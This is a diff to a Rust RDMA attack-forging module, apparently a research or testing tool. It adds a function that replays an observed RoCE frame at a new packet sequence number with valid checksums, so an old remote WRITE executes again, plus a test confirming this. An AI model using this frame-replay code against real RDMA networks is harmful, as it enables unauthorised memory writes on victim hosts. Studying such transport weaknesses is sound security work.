@@ -462,6 +462,31 @@ pub fn forge(attack: Attack, v: &VictimView, attacker: &Station, rng_bits: u64, 
     }
 }
 
+/// Replay an observed frame at another PSN: the same headers and payload
+/// with the BTH PSN set to `psn` and the IPv4 checksum and ICRC made right
+/// again, appended to `out`. With the peer's frame and the victim's
+/// expected PSN this is the attack no unauthenticated receiver can refuse
+/// (an old WRITE executed a second time, [`Attack::PeerWriteInWindow`]).
+/// Errors: whatever [`crate::wire::parse_frame`] finds wrong with `frame`.
+pub fn replay_at(frame: &[u8], psn: Psn, out: &mut Vec<u8>) -> Result<Forged, WireError> {
+    let p = crate::wire::parse_frame(frame)?;
+    let mut repr = p.repr;
+    repr.transport.bth.psn = psn;
+    let len = repr.frame_len(p.payload.len());
+    let start = out.len();
+    out.resize(start + len, 0);
+    match repr.emit(p.payload, &mut out[start..]) {
+        Ok(n) => {
+            out.truncate(start + n);
+            Ok(Forged { opcode: repr.transport.bth.opcode, psn, len: n })
+        }
+        Err(e) => {
+            out.truncate(start);
+            Err(e)
+        }
+    }
+}
+
 fn request(op: ReqOp, v: &VictimView, psn: Psn, r: u64, payload_len: usize) -> (TransportRepr, usize) {
     let reth = RethRepr { va: v.va, rkey: v.rkey, dma_len: payload_len as u32 };
     let (opcode, payload) = match op {
@@ -651,6 +676,26 @@ mod tests {
         }
         assert!(!Attack::PeerWriteInWindow.model_safe() && Attack::PeerCnp.model_safe());
         assert_eq!(Attack::ALL.iter().filter(|a| !a.model_safe()).count(), 2);
+    }
+
+    #[test]
+    fn replay_moves_a_frame_to_another_psn() {
+        let (v, attacker) = view(false);
+        let mut orig = Vec::new();
+        forge(Attack::StaleRequest(ReqOp::Write), &v, &attacker, 3, &mut orig).unwrap();
+        let mut out = Vec::new();
+        let f = replay_at(&orig, v.rq_psn, &mut out).unwrap();
+        assert_eq!((f.psn, f.opcode, f.len), (v.rq_psn, Opcode::RC_WRITE_ONLY, orig.len()));
+        let (a, b) = (parse_frame(&orig).unwrap(), parse_frame(&out).unwrap());
+        assert_eq!(b.repr.transport.bth.psn, v.rq_psn);
+        assert_eq!(a.payload, b.payload);
+        let mut same = b.repr;
+        same.transport.bth.psn = a.repr.transport.bth.psn;
+        assert_eq!(same, a.repr);
+        let mut bad = orig.clone();
+        let n = bad.len();
+        bad[n - 1] ^= 1;
+        assert!(matches!(replay_at(&bad, v.rq_psn, &mut out), Err(WireError::BadIcrc { .. })));
     }
 
     #[test]
